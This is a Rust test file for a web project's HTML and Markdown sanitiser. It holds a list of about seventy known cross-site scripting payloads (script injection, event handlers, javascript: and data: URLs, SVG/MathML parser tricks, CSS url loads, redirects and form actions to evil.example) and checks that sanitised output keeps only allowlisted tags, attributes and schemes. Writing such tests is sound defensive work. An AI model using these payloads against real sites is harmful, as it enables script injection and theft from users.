//! Known attacks against sanitisers. Nothing that runs, loads or moves content may remain.

use carillon_web::clean::{article_html, markdown_html, text_html};

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='@lA' onload=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)><p onclick=alert(1) onmouseover=alert(1)>x",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#09;script:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://x/y'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object><embed src=//evil.example>",
    "<img srcset='//evil.example/x.png 1x' src='@lA'>",
    "<picture><source srcset=//evil.example/x.png><img src=@lA></picture>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='@lA\"onerror=alert(1) x=\"'>",
    "<img alt='\"><script>alert(1)</script>' src='https://e.example/x.png'>",
    "<img alt='<img src=x onerror=alert(1)>' src='javascript:alert(1)'>",
    "<img alt='&lt;script&gt;alert(1)&lt;/script&gt;' src='https://e.example/\"onclick=\"alert(1)'>",
    "<video src=//evil.example poster=//evil.example onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<p style='color:expression(alert(1))'>x</p>",
    "<p style='color:red;background-image:url(javascript:alert(1))'>x</p>",
    "<p style=\"color:red&quot; onclick=&quot;alert(1)\">x</p>",
    "<p class='bar' id='main' name='location'>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<select><iframe><script>alert(1)</script></iframe></select>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=https://e.example target=_self rel=opener ping=//evil.example onclick=alert(1)>x</a>",
    "<font color='red\" onclick=\"alert(1)'>x</font>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://e.example/x.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```\"><script>alert(1)</script>\nx\n```",
];

const TAGS: &[&str] = &[
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "caption",
    "center",
    "code",
    "col",
    "del",
    "div",
    "em",
    "figcaption",
    "figure",
    "font",
    "h1",
    "h2",
    "h3",
    "hr",
    "i",
    "img",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "section",
    "span",
    "strong",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
];
const ATTRIBUTES: &[&str] = &[
    "href", "src", "alt", "class", "target", "rel", "style", "color", "loading", "decoding", "width",
    "height",
];

/// Parses tags independently of the sanitiser: a tag begins with `<` and a letter, and values are quoted. Fails on anything else.
fn assert_harmless(html: &str, attack: &str) {
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let closing = rest.starts_with('/');
        rest = rest.trim_start_matches('/');
        let end = rest.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(rest.len());
        let tag = &rest[..end];
        assert!(TAGS.contains(&tag), "<{tag}> from {attack}: {html}");
        rest = &rest[end..];
        while let Some(attribute) = rest.strip_prefix(' ') {
            assert!(!closing, "attributes on a closing tag from {attack}: {html}");
            let (name, after) = attribute.split_once("=\"").unwrap_or_else(|| panic!("{attack}: {html}"));
            let (value, after) = after.split_once('"').unwrap_or_else(|| panic!("{attack}: {html}"));
            assert!(ATTRIBUTES.contains(&name), "{name} from {attack}: {html}");
            match name {
                "href" => {
                    let safe = ["https://", "http://", "mailto:", "tel:", "dingtalk:"];
                    assert!(
                        safe.iter().any(|scheme| value.starts_with(scheme)),
                        "{value} from {attack}: {html}"
                    );
                }
                "src" => {
                    assert!(value.starts_with("/media/") || value.starts_with("data:image/png"), "{html}")
                }
                "style" => assert!(!value.contains("url") && !value.contains("position"), "{html}"),
                "class" => assert_eq!(value, "elsewhere", "{html}"),
                "target" => assert_eq!(value, "_blank", "{html}"),
                "rel" => assert_eq!(value, "noopener noreferrer", "{html}"),
                _ => {}
            }
            rest = after;
        }
        rest = rest.strip_prefix('>').unwrap_or_else(|| panic!("{attack}: {html}"));
    }
}

#[test]
fn attacks_leave_nothing_harmful() {
    for attack in ATTACKS {
        let inside = format!("<div><p>before {attack} after</p></div>");
        for html in [
            article_html(attack, "/media/"),
            article_html(&inside, "/media/"),
            markdown_html(attack),
            markdown_html(&inside),
            text_html(attack),
        ] {
            assert_harmless(html.as_str(), attack);
            // Sanitising again must not turn the result into something harmful.
            let again = article_html(html.as_str(), "/media/");
            assert_harmless(again.as_str(), attack);
        }
    }
}

#[test]
fn deep_and_long_input_is_bounded() {
    let deep = format!("{}x{}", "<div>".repeat(20_000), "</div>".repeat(20_000));
    assert!(article_html(&deep, "/media/").as_str().starts_with("&lt;div&gt;"));
    let paragraphs = article_html(&"<p>x".repeat(5_000), "/media/");
    assert_eq!(paragraphs.as_str().matches("</p>").count(), 5_000);
    let misnested = "<b style=color:red><p></b>x".repeat(5_000);
    assert_harmless(article_html(&misnested, "/media/").as_str(), "misnested");
    let unclosed = "<b><a href=x>".repeat(2_000);
    assert_harmless(article_html(&unclosed, "/media/").as_str(), "unclosed");
    assert_harmless(markdown_html(&"> ".repeat(30_000)).as_str(), "quotes");
    assert!(markdown_html(&"-".repeat(500)).as_str().contains("<hr>"));
    assert_harmless(markdown_html(&"- ".repeat(30_000)).as_str(), "lists");
    assert_harmless(markdown_html(&"**：".repeat(20_000)).as_str(), "marks");
    assert_harmless(text_html(&"http://a".repeat(20_000)).as_str(), "addresses");
}
